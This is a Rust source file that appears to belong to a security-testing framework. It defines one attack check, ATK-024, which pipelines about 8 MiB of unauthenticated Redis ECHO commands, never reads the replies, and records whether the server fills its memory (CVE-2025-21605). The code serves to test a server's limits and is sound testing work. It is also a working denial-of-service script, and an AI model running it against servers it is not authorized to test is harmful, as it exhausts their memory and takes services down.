//! ATK-024.

use std::time::Duration;

use redan_model::ProofVerdict;
use redan_net::End;

use crate::attack;
use crate::attack::Outcome;
use crate::scene::Scene;

attack! {
    /// Sends, without a login, up to 8 MiB of small commands and reads none of the replies, which
    /// are larger. A server that keeps them all fills its memory.
    ///
    /// # Gain
    /// Without any password, a few connections take the memory of the server (CVE-2025-21605).
    ///
    /// # Clean-up
    /// The connection is closed, and the server drops what it kept.
    ///
    /// # Sources
    /// - CVE-2025-21605 (<https://nvd.nist.gov/vuln/detail/CVE-2025-21605>)
    /// - Redis documentation, handling of clients (<https://redis.io/docs/latest/develop/reference/clients/>)
    "ATK-024", "unread-replies";
    title: "The server keeps replies for a stranger who does not read them",
    proves: ["LIM-005", "AUTH-001"], needs: [],
    destructive: false, alone: true,
    run: run,
}

/// One command; `COMMAND DOCS` and its like are not asked for, since who is let in may ask them.
const COMMAND: &[u8] = b"*2\r\n$4\r\nECHO\r\n$400\r\n";
/// Its argument.
const WORD: [u8; 400] = [b'x'; 400];
/// Commands in one write.
const BATCH: usize = 1000;
/// Writes: 8 MiB in all.
const BATCHES: usize = 20;
/// After how long without room for more bytes the server has stopped to read.
const PATIENCE: Duration = Duration::from_millis(200);

async fn run(scene: &Scene) -> Outcome {
    let mut line = scene.raw_stranger().await?;
    let batch = [COMMAND, &WORD, b"\r\n"].concat().repeat(BATCH);
    for number in 0..BATCHES {
        if line.send_silently(&batch).await.is_err() {
            let sent = number * batch.len() / 1024;
            let reason = format!("the server hung up after {sent} KiB of commands");
            scene.transcript().remark(&reason);
            return Ok(ProofVerdict::Blocked(reason));
        }
    }
    let sent = BATCHES * batch.len() / 1024;
    scene.transcript().remark(&format!("{sent} KiB of commands were sent, and nothing was read"));
    // Replies that fit in the buffers of the network are there; an end behind them shows later.
    let end = line.drain(PATIENCE).await?;
    Ok(match end {
        End::Closed => ProofVerdict::Blocked("the server hung up on who did not read".into()),
        _ => ProofVerdict::Succeeded(format!("the server kept the replies to {sent} KiB")),
    })
}
